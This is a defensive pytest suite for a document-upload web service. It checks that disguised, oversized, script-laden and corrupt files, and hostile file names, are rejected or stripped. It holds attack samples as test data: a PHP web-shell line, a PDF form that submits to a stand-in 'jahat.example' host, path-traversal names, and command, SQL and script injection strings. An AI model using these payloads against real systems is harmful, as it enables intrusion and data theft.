"""What people should not send as a document, one after the other: told in its slot, and nothing
else is lost.
"""

import io
import re
import struct
import zipfile
from contextlib import ExitStack
from datetime import UTC, datetime

import pictures
import pikepdf
import pytest
from builders import make_permohonan, petugas, picture
from pemohon import SEND, answer_to, begin, deliver, kept, the_permohonan, upload
from pikepdf import Dictionary, Name
from PIL import Image

from sipetrok.app import auth
from sipetrok.kiriman import ruang
from sipetrok.kiriman.berkas import SedangSibuk
from sipetrok.models import Berkas, Surat, Unggahan, db
from sipetrok.operations import kuota
from sipetrok.sop.standar import Tugas

LABEL = "Scan/Foto Foto copy KTP: "  # the slot into which everything bad is sent here


@pytest.fixture
def page(visitor):
    """A draft that already has a document in its first slot."""
    begin(visitor)
    return visitor.press(SEND, berkas__1=upload(picture(200)))


def send(visitor, isi: bytes, name: str = "ktp.jpg"):
    """The third slot with these bytes; the second with a good photo in the same press."""
    return deliver(
        visitor,
        SEND,
        ('name="pilihan-2"', b"Buku Nikah"),
        ('name="berkas-2"; filename="nikah.jpg"', picture(90)),
        (f'name="berkas-3"; filename="{name}"', isi),
    )


def stored(app) -> int:
    return sum(
        path.is_file() for path in (app.config["INSTANCE"] / "berkas").rglob("*")
    )


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("ktp.html", "<script>alert(1)</script>")
    return out.getvalue()


def declared_jpeg(side: int) -> bytes:
    """A photo whose header says that it is so wide and high."""
    photo = bytearray(pictures.phone_photo())
    at = photo.index(b"\xff\xc0")
    photo[at + 5 : at + 9] = struct.pack(">HH", side, side)
    return bytes(photo)


def no_eof() -> bytes:
    return pictures.text_pdf().replace(b"%%EOF", b"     ")


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b'<rect width="9" height="9"/></svg>'
)
REFUSED = {
    "11 MB": (
        lambda: pictures.phone_photo() + bytes(11 * 1024 * 1024),
        "ktp.jpg",
        "lebih dari 10 MB",
    ),
    "damaged photo": (
        lambda: b"\xff\xd8\xff\xe0\x00\x04ab" + b"bukan foto" * 50,
        "ktp.jpg",
        "Foto ini rusak",
    ),
    "damaged PDF": (
        lambda: b"%PDF-1.7\n1 0 obj\nbukan pdf\n%%EOF",
        "ktp.pdf",
        "PDF ini rusak",
    ),
    "PDF without an end": (no_eof, "ktp.pdf", "tidak utuh"),
    "zip called jpg": (zipped, "ktp.jpg", "Word, Excel, atau ZIP"),
    "svg called png": (lambda: SVG, "ktp.png", "bukan foto"),
    "program called pdf": (lambda: b"MZ" + bytes(900), "ktp.pdf", "bukan foto"),
    "web page called jpg": (
        lambda: b"<!doctype html><script>alert(1)</script>",
        "ktp.jpg",
        "bukan foto",
    ),
    "GIF": (lambda: pictures.animated("GIF"), "ktp.gif", "bergerak"),
    "moving PNG": (lambda: pictures.animated("PNG"), "ktp.png", "bergerak"),
    "nothing in it": (lambda: b"", "ktp.jpg", "kosong"),
    "PDF with a password": (
        lambda: pictures.encrypted_pdf("rahasia", "pemilik"),
        "ktp.pdf",
        "kata sandi",
    ),
    "500 pages": (lambda: pictures.text_pdf(500), "ktp.pdf", "lebih dari 20 halaman"),
    "PDF that unpacks to 64 MiB": (
        lambda: pictures.content_bomb_pdf(64),
        "ktp.pdf",
        "terlalu berat",
    ),
    "PDF with a gigantic picture": (
        pictures.picture_bomb_pdf,
        "ktp.pdf",
        "terlalu berat",
    ),
    "PNG of six gigabytes": (
        lambda: pictures.one_colour_png(40_000, 40_000),
        "ktp.png",
        "terlalu besar",
    ),
    "JPEG that says it has 4 billion pixels": (
        lambda: declared_jpeg(65_000),
        "ktp.jpg",
        "terlalu besar",
    ),
    "JPEG of endless passes": (pictures.many_passes_jpeg, "ktp.jpg", "tidak lazim"),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_a_bad_file_is_told_in_its_slot_and_nothing_else_is_lost(
    app, visitor, page, kind
):
    make, name, words = REFUSED[kind]
    before = stored(app)

    answer = send(visitor, make(), name)

    assert answer.status == 422 and len(answer.errors()) == 1
    assert (
        answer.errors()[0].startswith(LABEL)
        and words in answer.errors()[0]
        and answer.errors()[0].endswith(".")
    )
    assert answer.link(answer.errors()[0]) == "#berkas-3"
    assert (len(kept(1)), len(kept(2)), len(kept(3))) == (1, 1, 0) and kept(2)[
        0
    ].pilihan == "Buku Nikah"
    assert stored(app) == before + 1, (
        "the good photo of the same press, and nothing of the bad one"
    )


def test_after_a_bad_file_a_good_one_goes_on(visitor, page):
    send(visitor, b"MZ")

    assert visitor.press(SEND, berkas__3=upload(picture(30))).path.endswith("/periksa")


@pytest.mark.parametrize(
    "make",
    [
        lambda: pictures.encode(Image.effect_noise((300, 200), 60), "JPEG"),
        lambda: pictures.encode(Image.effect_noise((150, 100), 60), "PNG"),
        lambda: pictures.encrypted_pdf("", "")[:1] + pictures.text_pdf(40)[1:],
    ],
    ids=["JPEG", "PNG", "PDF"],
)
def test_a_file_cut_off_at_any_kilobyte_is_never_kept(visitor, page, make):
    whole = make()
    assert len(whole) > 5 * 1024

    for end in range(1024, len(whole) - 64, 1024):
        answer = visitor.press(SEND, berkas__3=upload(whole[:end]))
        told = next(
            sentence for sentence in answer.errors() if sentence.startswith(LABEL)
        )
        assert answer.status == 422 and (
            "tidak terkirim utuh" in told or "tidak utuh" in told or "rusak" in told
        ), end
    assert not kept(3) and len(kept(1)) == 1


# Taken, but only what people see of it.


def kept_bytes(storage, slot: int = 3) -> bytes:
    return storage.read(kept(slot)[0].sha256)


def unpacked(pdf: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as document:
        return b"\n".join(
            item.stream_dict.unparse() + item.read_raw_bytes()
            if isinstance(item, pikepdf.Stream)
            else item.unparse(resolved=True)
            for item in document.objects
        )


@pytest.mark.parametrize(
    "hidden",
    [b"<script>alert(1)</script>", b"<?php system($_GET[0]); ?>", zipped()],
    ids=["web page", "php", "zip"],
)
def test_a_photo_with_something_behind_it_is_kept_as_a_photo_only(
    visitor, page, storage, hidden
):
    photo = pictures.encode(pictures.scene(), "JPEG", comment=hidden[:60]) + hidden

    assert send(visitor, photo, "ktp.html").path.endswith("/periksa")

    isi, berkas = kept_bytes(storage), kept(3)[0]
    assert (
        berkas.jenis == "image/jpeg"
        and hidden[:20] not in isi
        and Image.open(io.BytesIO(isi)).size == (1200, 800)
    )
    shown = visitor.client.get(
        f"/permohonan/{the_permohonan().kode}/berkas/{berkas.id}.jpg"
    )
    assert (
        shown.mimetype == "image/jpeg"
        and shown.headers["X-Content-Type-Options"] == "nosniff"
    )


def with_scripts() -> bytes:
    """Everything of nasty_pdf, and rich media, a submitting form and a remote link besides."""
    with pikepdf.open(io.BytesIO(pictures.nasty_pdf())) as pdf:
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                T="kirim",
                Rect=[0, 0, 50, 50],
                A=Dictionary(S=Name.SubmitForm, F="http://jahat.example/curi"),
            )
        )
        pdf.Root.AcroForm.Fields.append(field)
        remote = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[0, 0, 9, 9],
            A=Dictionary(S=Name.GoToR, F="\\\\jahat.example\\berkas.pdf"),
        )
        pdf.pages[0].obj.Annots.extend([field, pdf.make_indirect(remote)])
        return pictures.save_pdf(pdf)


def test_of_a_pdf_with_scripts_only_its_page_is_kept(visitor, page, storage):
    source = with_scripts()
    traces = [
        b"/JavaScript",
        b"app.alert",
        b"/Launch",
        b"/OpenAction",
        b"/EmbeddedFile",
        b"/XFA",
        b"/SubmitForm",
        b"/GoToR",
        b"jahat.example",
        b"muatan.exe",
    ]
    with pikepdf.open(io.BytesIO(source)) as document:
        assert all(
            trace in unpacked(source) + document.trailer.unparse(resolved=True)
            for trace in traces
        )

    assert send(visitor, source, "ktp.pdf").path.endswith("/periksa")

    isi = unpacked(kept_bytes(storage))
    assert not [trace for trace in traces if trace in isi]
    assert kept(3)[0].halaman == 1 and b"/Contents" in isi


def test_a_pdf_that_only_forbids_printing_is_taken_and_loses_its_lock(
    visitor, page, storage
):
    assert send(
        visitor, pictures.encrypted_pdf("", "pemilik"), "ktp.pdf"
    ).path.endswith("/periksa")

    with pikepdf.open(io.BytesIO(kept_bytes(storage))) as document:
        assert not document.is_encrypted and len(document.pages) == 1


# Slots and names.


def test_more_files_than_a_slot_takes_are_told_and_the_first_are_kept(visitor, page):
    answer = visitor.press(
        SEND, berkas__1=[upload(picture(shade)) for shade in range(10, 18)]
    )

    assert (
        answer.status == 422
        and "Paling banyak 2 berkas. Hapus dahulu yang tidak dipakai."
        in answer.errors()[0]
    )
    assert len(kept(1)) == 2


def test_of_several_files_the_bad_one_is_named_and_the_good_ones_are_kept(
    visitor, page
):
    visitor.press(
        next(button for button in page.buttons() if button.startswith("Hapus"))
    )

    answer = visitor.press(
        SEND, berkas__1=[upload(picture(1), "satu.jpg"), upload(b"MZ", "dua.exe")]
    )

    assert any(
        "dua.exe: Isi berkas ini bukan foto" in sentence for sentence in answer.errors()
    )
    assert len(kept(1)) == 1


def post(visitor, *parts: tuple[str, bytes]):
    """The berkas form with parts that no browser would send; the answer as it is."""
    return answer_to(visitor, SEND, *parts)


@pytest.mark.parametrize(
    "slot",
    [
        "berkas-99",
        "berkas-0",
        "berkas--1",
        "berkas-",
        "berkas",
        "scan",
        "berkas-1e9",
        "../berkas-3",
        "berkas-٣",
    ],
)
def test_a_slot_that_does_not_exist_keeps_nothing(app, visitor, page, slot):
    before = stored(app)
    answer = post(visitor, (f'name="{slot}"; filename="ktp.jpg"', picture(7)))

    assert answer.status_code == 422 and "Belum ada berkas" in answer.text
    assert stored(app) == before and db.session.query(Berkas).count() == 1


@pytest.mark.parametrize(
    "header",
    [
        'name="berkas-3"',
        'name="berkas-3"; filename=""',
        'filename="ktp.jpg"',
        'nama="x"',
        "",
    ],
)
def test_a_part_without_a_name_or_a_file_name_is_no_document(visitor, page, header):
    answer = post(visitor, (header, picture(7)))

    assert answer.status_code in (400, 422) and not kept(3) and len(kept(1)) == 1
    assert (
        "Belum ada berkas" in answer.text
        or "Permintaan tidak dapat dibaca" in answer.text
    )


NAMES = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\calc.exe",
    "/etc/shadow",
    "C:\\ktp.jpg",
    "ktp\0.jpg",
    "a\nb.jpg",
    "a%0d%0aSet-Cookie: x=1.jpg",
    "\u202egpj.exe",
    "x" * 4000 + ".jpg",
    "it's <b>.jpg",
    "<script>alert(1)</script>.jpg",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}.jpg",
    "😀 keluarga 👨‍👩‍👧.jpg",
    "CON",
    ".",
    "..",
    "  ",
    "%00",
    "~root",
    "$(id).jpg",
    "\udcff\udcfe.jpg",
    "ktp.jpg;rm -rf",
    "\u200b",
    "NUL.jpg.",
    "'; DROP TABLE berkas; --",
]


@pytest.mark.parametrize("name", NAMES, ids=[repr(name)[:30] for name in NAMES])
def test_a_hostile_file_name_is_never_a_path_and_never_markup(app, visitor, page, name):
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    before = stored(app)
    good = post(visitor, (f'name="berkas-3"; filename="{quoted}"', picture(7)))
    bad = post(
        visitor,
        (f'name="berkas-2"; filename="{quoted}"', b"MZ"),
        ('name="berkas-2"; filename="b.jpg"', b"MZ"),
    )

    assert good.status_code in (303, 400, 422) and bad.status_code in (400, 422)
    assert stored(app) - before == len(kept(3)) and not kept(2) and len(kept(1)) == 1
    files = [
        path
        for path in (app.config["INSTANCE"] / "berkas").rglob("*")
        if path.is_file()
    ]
    assert all(re.fullmatch(r"[0-9a-f]{64}.*", path.name) for path in files)
    assert (
        "<script>alert" not in bad.text
        and "<img src=x" not in bad.text
        and "x" * 60 not in bad.text
    )
    assert (
        not [sign for sign in ("\0", "\u202e", "\u200b") if sign in bad.text]
        and "Set-Cookie: x" not in bad.headers
    )
    assert "set-cookie: x=1" not in str(good.headers).lower()


def test_the_sentence_about_one_of_several_names_it_so_that_it_can_be_found(
    visitor, page
):
    visitor.press(
        next(button for button in page.buttons() if button.startswith("Hapus"))
    )

    told = visitor.press(
        SEND,
        berkas__1=[
            upload(
                b"MZ", "C:/Foto Saya/" + "Kartu Keluarga halaman dua " * 9 + "a.exe"
            ),
            upload(b"MZ", "\u202efdp.exe"),
        ],
    ).errors()

    assert any(
        "Kartu Keluarga halaman dua Kar… dua a.exe: Isi berkas" in one for one in told
    ), told
    assert any("fdp.exe: Isi berkas" in one for one in told)


# More than can be looked at at a time.


@pytest.fixture
def crowded(app):
    """Somebody behind the same address sends files that take long, as many as they can."""
    with app.test_request_context(environ_base={"REMOTE_ADDR": "127.0.0.1"}):
        sender = auth.visitor_key("unggah", kuota.BITS)
    with ExitStack() as inside:
        with pytest.raises(SedangSibuk):
            while True:
                inside.enter_context(ruang.WARGA.taken(sender))
        yield


def test_who_finds_no_place_is_told_at_once_and_loses_nothing(
    app, visitor, page, crowded
):
    before = stored(app)
    answer = send(visitor, picture(30))

    assert answer.status == 503 and answer.response.headers["Retry-After"] == "5"
    told = answer.errors()
    assert len(told) == 2 and all("Situs sedang sibuk" in one for one in told)
    assert answer.link(told[1]) == "#berkas-3"
    assert answer.button(SEND)[0].data()["pilihan-2"] == "Buku Nikah"
    assert stored(app) == before and len(kept(1)) == 1


def test_whoever_sends_from_elsewhere_finds_a_place(app, visitor, page, crowded):
    visitor.client.environ_base["REMOTE_ADDR"] = "192.0.2.9"
    assert send(visitor, picture(30)).path.endswith("/periksa")


def test_pages_and_small_pictures_need_no_place(visitor, page, crowded):
    kode, berkas = the_permohonan().kode, kept(1)[0].id

    assert visitor.get(f"/permohonan/{kode}/berkas").status == 200
    small = visitor.client.get(f"/permohonan/{kode}/berkas/{berkas}.jpg")
    assert small.mimetype == "image/jpeg" and len(small.data) <= 12_000


def test_the_office_works_on_while_its_visitors_crowd_in(handing_over, crowded):
    answer = handing_over.press("Serahkan kepada pemohon", scan=upload(picture()))

    assert answer.status == 200 and not answer.errors()
    assert db.session.scalar(db.select(Surat.scan_sha256))


def test_an_officer_who_finds_no_place_keeps_what_was_written(handing_over):
    with ExitStack() as inside:
        for sender in ("lain", "lain lagi"):
            inside.enter_context(ruang.KANTOR.taken(sender))
        answer = deliver(
            handing_over,
            "Serahkan kepada pemohon",
            ('name="catatan"', b"Diambil sendiri."),
            ('name="scan"; filename="surat.jpg"', picture()),
        )

    assert answer.status == 422 and answer.link("Situs sedang sibuk") == "#scan"
    assert "".join(answer.field("catatan").itertext()).strip() == "Diambil sendiri."


# The office's own uploads.


@pytest.fixture
def handing_over(signed_in, folder, storage):
    """Bu Loket with a letter that is to be handed over."""
    number = make_permohonan(folder, storage, Tugas.SERAHKAN).id
    officer = signed_in("loket")
    officer.get(f"/antrean/{number}")
    return officer


def test_the_bytes_of_a_scan_are_counted_for_whoever_sent_it(handing_over, monkeypatch):
    kunci = f"petugas {petugas('loket').id}"
    monkeypatch.setattr(kuota, "PART", 10**15)
    db.session.add(Unggahan(kunci=kunci, at=datetime.now(UTC), ukuran=1))
    db.session.commit()
    page = handing_over.press(
        "Serahkan kepada pemohon", catatan="Diambil sendiri.", scan=upload(picture())
    )

    assert page.status == 422 and "Dari akun Anda sudah masuk" in page.text
    assert page.field("catatan").text == "Diambil sendiri."
    monkeypatch.undo()
    handing_over.press("Serahkan kepada pemohon", scan=upload(picture()))
    assert sum(db.session.scalars(db.select(Unggahan.ukuran))) > len(picture()) / 2


@pytest.mark.parametrize(
    "kind",
    ["11 MB", "zip called jpg", "PDF with a password", "nothing in it", "500 pages"],
)
def test_a_bad_scan_of_the_letter_is_told_and_the_note_stays(handing_over, kind):
    make, name, words = REFUSED[kind]
    answer = deliver(
        handing_over,
        "Serahkan kepada pemohon",
        ('name="catatan"', b"Diambil sendiri."),
        (f'name="scan"; filename="{name}"', make()),
    )

    assert answer.status == 422 and answer.link(words) == "#scan"
    assert "".join(answer.field("catatan").itertext()).strip() == "Diambil sendiri."
    assert db.session.scalar(db.select(Surat.scan_sha256)) is None


def test_more_pages_than_one_letter_has_are_told_and_not_cut(handing_over):
    answer = handing_over.press(
        "Serahkan kepada pemohon", scan=[upload(picture(n)) for n in range(11)]
    )

    assert (
        answer.status == 422
        and answer.link("Paling banyak 10 halaman; yang Anda pilih 11.") == "#scan"
    )
    assert db.session.scalar(db.select(Surat.scan_sha256)) is None


def test_a_scan_that_was_picked_beside_another_mistake_is_asked_for_again(handing_over):
    answer = handing_over.press(
        "Serahkan kepada pemohon", scan=upload(picture()), lewat="kuda"
    )

    assert answer.status == 422 and answer.link("Pilih lagi berkasnya") == "#scan"
    assert db.session.scalar(db.select(Surat.scan_sha256)) is None
